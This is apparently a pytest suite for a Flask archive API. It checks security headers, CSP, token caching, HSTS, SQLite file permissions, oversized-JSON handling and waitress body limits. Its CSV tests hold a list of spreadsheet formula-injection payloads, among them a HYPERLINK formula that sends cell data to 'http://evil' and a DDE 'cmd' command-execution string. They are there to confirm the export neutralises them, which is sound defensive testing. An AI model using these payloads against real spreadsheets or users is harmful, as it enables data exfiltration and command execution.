"""HTTP hardening: security headers, no-store, CSV formula neutralisation, huge JSON integers,
owner-only SQLite files, and waitress's body limit with JSON errors."""
from __future__ import annotations

import csv
import io
import os
import socket
import stat
import threading
import time

import pytest
import sqlalchemy as sa

from archiver.api.headers import API_CSP, DOCS_CSP, PAGE_CSP, SWAGGER_STYLE_HASH
from archiver.extensions import db
from archiver.serve import make_server
from archiver.services import database
from tests.archive_helpers import archived_record, insert_archived
from tests.app_support import PASSWORD, Databases, make_app
from tests.auth_support import assert_error, bearer, login

SECURITY_HEADERS = {"X-Content-Type-Options": "nosniff", "X-Frame-Options": "DENY", "Referrer-Policy": "no-referrer"}


def assert_secure(resp, csp: str = API_CSP, cache: str | None = "no-store") -> None:
    for name, value in SECURITY_HEADERS.items():
        assert resp.headers.get(name) == value, (name, resp.headers)
    assert resp.headers["Content-Security-Policy"] == csp
    assert "frame-ancestors 'none'" in resp.headers["Content-Security-Policy"]
    if cache is not None:
        assert resp.headers["Cache-Control"] == cache


# --- headers --------------------------------------------------------------------------------------

def test_json_responses_carry_the_security_headers(client, accounts):
    accounts.create("alice")
    for resp in (client.get("/health"), client.get("/openapi.json"), client.get("/no/such/route"),
                 client.post("/auth/login", json={"username": "alice", "password": "wrong-password"}),
                 client.get("/auth/me")):
        assert_secure(resp)
    assert "Strict-Transport-Security" not in client.get("/health").headers  # plain HTTP


def test_token_responses_are_no_store(client, accounts):
    accounts.create("alice")
    resp = login(client, "alice")
    assert resp.status_code == 200 and resp.headers["Cache-Control"] == "no-store"
    tokens = resp.get_json()
    refreshed = client.post("/auth/refresh", headers=bearer(tokens["refresh_token"]))
    assert refreshed.status_code == 200 and refreshed.headers["Cache-Control"] == "no-store"
    changed = client.post("/auth/password", headers=bearer(refreshed.get_json()["access_token"]),
                          json={"old_password": PASSWORD, "new_password": "yet-another-phrase"})
    assert changed.status_code == 200 and changed.headers["Cache-Control"] == "no-store"


def test_docs_page_allows_only_this_origin_and_has_no_inline_code(client):
    resp = client.get("/docs")
    assert resp.status_code == 200 and resp.mimetype == "text/html"
    # the page CSP, plus the hash of the one fixed <style> Swagger UI inserts (seen in Chromium)
    assert_secure(resp, csp=DOCS_CSP)
    assert DOCS_CSP == PAGE_CSP.replace("style-src 'self'", f"style-src 'self' {SWAGGER_STYLE_HASH}")
    csp = resp.headers["Content-Security-Policy"]
    assert "script-src 'self';" in csp and "unsafe-inline" not in csp and "https:" not in csp
    page = resp.get_data(as_text=True)
    assert "<script>" not in page and "style=" not in page and "http" not in page  # nothing inline, nothing remote
    for src in ("/docs/assets/swagger-ui-bundle.js", "/docs/assets/swagger-ui.css", "/docs/init.js"):
        assert src in page
        asset = client.get(src)
        assert asset.status_code == 200 and len(asset.get_data()) > 100
        assert asset.headers["X-Content-Type-Options"] == "nosniff"
    assert "openapi.json" in page
    assert client.get("/docs/assets/../../config.py").status_code == 404
    assert client.get("/docs/assets/index.template.html").status_code == 404


def test_export_responses_carry_the_security_headers(app, client, accounts, archive_engine):
    insert_archived(archive_engine, [archived_record("orders", {"id": 1, "name": "x"})])
    headers = accounts.admin("root")
    for fmt in ("csv", "jsonl"):
        resp = client.get("/archives/orders/export", headers=headers, query_string={"format": fmt})
        assert resp.status_code == 200
        assert resp.get_data()
        assert_secure(resp)
        assert resp.headers["Content-Disposition"].startswith("attachment;")
        resp.close()
    listing = client.get("/archives/orders", headers=headers)
    assert_secure(listing)


def test_https_behind_a_trusted_proxy_gets_hsts(databases):
    app = make_app(databases, TRUSTED_PROXY_HOPS=1)
    client = app.test_client()
    assert "Strict-Transport-Security" not in client.get("/health").headers
    resp = client.get("/health", headers={"X-Forwarded-Proto": "https", "X-Forwarded-For": "198.51.100.1"})
    assert resp.headers["Strict-Transport-Security"].startswith("max-age=31536000")
    # without trusted hops the header is ignored
    plain = make_app(databases).test_client().get("/health", headers={"X-Forwarded-Proto": "https"})
    assert "Strict-Transport-Security" not in plain.headers


# --- CSV formula injection -----------------------------------------------------------------------------

DANGEROUS = ["=HYPERLINK(\"http://evil\"&A2,\"Click me\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1", "=1"]
PLAIN = ["-12.5", "+7", "-0", "1e5", "safe text", "", " =not first", "a=b"]


@pytest.fixture
def spreadsheet_rows(archive_engine):
    rows = [{"id": i, "name": value, "n": -i} for i, value in enumerate(DANGEROUS + PLAIN, start=1)]
    insert_archived(archive_engine, [archived_record("sheet", r) for r in rows])
    return rows


def csv_names(resp) -> list[str]:
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True), newline="")))
    col = rows[0].index("payload.name")
    return [r[col] for r in rows[1:]]


def test_csv_export_neutralises_each_dangerous_prefix(client, accounts, spreadsheet_rows):
    user = accounts.user("ann", tables=["sheet"])
    resp = client.get("/archives/sheet/export", headers=user, query_string={"format": "csv"})
    assert resp.status_code == 200
    names = csv_names(resp)
    assert names[:len(DANGEROUS)] == ["'" + v for v in DANGEROUS]
    assert names[len(DANGEROUS):] == PLAIN  # numbers and harmless text are untouched
    text = resp.get_data(as_text=True)
    assert '"-1"' in text  # negative numbers stay numbers
    for record in list(csv.reader(io.StringIO(text, newline="")))[1:]:
        for cell in record:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell in PLAIN or cell.lstrip("-").isdigit()


def test_raw_csv_is_exact_and_admin_only(client, accounts, spreadsheet_rows):
    user = accounts.user("ann", tables=["sheet"])
    for raw in ("1", "true"):
        assert_error(client.get("/archives/sheet/export", headers=user, query_string={"format": "csv", "raw": raw}),
                     403, "forbidden")
    admin = accounts.admin("root")
    resp = client.get("/archives/sheet/export", headers=admin, query_string={"format": "csv", "raw": "1"})
    assert resp.status_code == 200
    assert csv_names(resp) == DANGEROUS + PLAIN
    assert client.get("/archives/sheet/export", headers=admin, query_string={"raw": "maybe"}).status_code == 400


def test_json_lines_export_stays_lossless(client, accounts, spreadsheet_rows):
    import json
    user = accounts.user("ann", tables=["sheet"])
    lines = client.get("/archives/sheet/export", headers=user).get_data(as_text=True).splitlines()
    assert [json.loads(line)["payload"]["name"] for line in lines] == DANGEROUS + PLAIN


# --- JSON that Python cannot turn into an int ----------------------------------------------------------------

@pytest.mark.parametrize("chunked", [False, True])
def test_a_4301_digit_integer_is_a_400(client, accounts, signup_enabled, chunked):
    admin = accounts.admin("root")
    huge = "9" * 4301
    for url, body, headers in (("/auth/login", '{"username": "a", "password": %s}' % huge, {}),
                               ("/auth/signup", '{"username": "abc", "password": %s}' % huge, {}),
                               ("/config", '{"table_name": "t", "archive_after_days": %s, "delete_after_days": 1}'
                                % huge, admin),
                               ("/users/", '{"username": "abc", "password": "x", "permissions": [%s]}' % huge, admin)):
        headers = {**headers, "Content-Type": "application/json"}
        if chunked:
            resp = client.post(url, headers={**headers, "Transfer-Encoding": "chunked"},
                               input_stream=io.BytesIO(body.encode()), environ_overrides={"wsgi.input_terminated": True})
        else:
            resp = client.post(url, headers=headers, data=body)
        error = assert_error(resp, 400)
        assert "too long" in str(error["details"]), (url, error)
    # 4,300 digits parse; the value is then simply out of range
    resp = client.post("/config", headers={**admin, "Content-Type": "application/json"},
                       data='{"table_name": "t", "archive_after_days": %s, "delete_after_days": 1}' % ("9" * 4300))
    assert assert_error(resp, 400, "validation_error")["details"]["archive_after_days"]


# --- owner-only SQLite files -----------------------------------------------------------------------------------

def _mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def test_new_sqlite_files_are_created_owner_only(tmp_path):
    old = os.umask(0o022)
    try:
        app = make_app(Databases("sqlite", f"sqlite:///{tmp_path / 's.db'}", f"sqlite:///{tmp_path / 'a.db'}"))
        with app.app_context():
            database.init_db()
            with db.engines[None].begin() as conn:
                conn.execute(sa.text("PRAGMA journal_mode=WAL"))
                conn.execute(sa.text("CREATE TABLE t (x)"))
            db.engines[None].dispose()
            db.engines["source"].dispose()
    finally:
        os.umask(old)
    assert _mode(tmp_path / "a.db") == 0o600 and _mode(tmp_path / "s.db") == 0o600
    for side in tmp_path.glob("a.db-*"):
        assert _mode(side) == 0o600, side


def test_an_existing_readable_archive_file_is_tightened_and_a_source_file_is_left_alone(tmp_path, caplog):
    for name in ("a.db", "s.db"):
        (tmp_path / name).touch()
        os.chmod(tmp_path / name, 0o644)
    with caplog.at_level("WARNING"):
        make_app(Databases("sqlite", f"sqlite:///{tmp_path / 's.db'}", f"sqlite:///{tmp_path / 'a.db'}"))
    assert _mode(tmp_path / "a.db") == 0o600
    assert _mode(tmp_path / "s.db") == 0o644
    assert any("permissions are now 0600" in r.getMessage() for r in caplog.records)


# --- waitress: the body limit and its own errors ---------------------------------------------------------------

@pytest.fixture
def served(app):
    server = make_server(app, host="127.0.0.1", port=0, threads=2)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        yield server.effective_port
    finally:
        server.close()
        thread.join(5)


def raw_request(port: int, data: bytes, read_timeout: float = 10) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=read_timeout) as sock:
        sock.sendall(data)
        chunks = []
        while True:
            try:
                chunk = sock.recv(65536)
            except (ConnectionResetError, socket.timeout):
                break
            if not chunk:
                break
            chunks.append(chunk)
    return b"".join(chunks)


def test_waitress_refuses_a_body_over_the_limit_before_reading_it(app, served):
    assert app.config["MAX_CONTENT_LENGTH"] == 1024 * 1024
    started = time.monotonic()
    # announce 30 MiB and send none of it: the answer must come without waiting for the body
    answer = raw_request(served, b"POST /auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                                 b"Content-Length: 31457280\r\n\r\n")
    assert time.monotonic() - started < 5
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 413")
    assert b"Content-Type: application/json" in head and b"X-Content-Type-Options: nosniff" in head
    import json
    assert json.loads(body)["error"]["code"] == "payload_too_large"


def test_waitress_accepts_a_body_at_the_limit_and_flask_answers(app, served):
    body = b'{"username": "a", "password": "' + b"x" * (1024 * 1024 - 35) + b'"}'
    assert len(body) <= 1024 * 1024
    answer = raw_request(served, b"POST /auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                                 b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    assert answer.startswith(b"HTTP/1.1 401")  # reached the app: unknown user


def test_waitress_parse_errors_are_json(served):
    answer = raw_request(served, b"GET /health HTTP/1.1\r\nHost: x\r\nContent-Length: nope\r\n\r\n")
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 400") and b"application/json" in head
    import json
    assert set(json.loads(body)["error"]) == {"code", "message", "details"}


def test_served_health_has_the_security_headers(served):
    answer = raw_request(served, b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 200") and b"X-Frame-Options: DENY" in answer
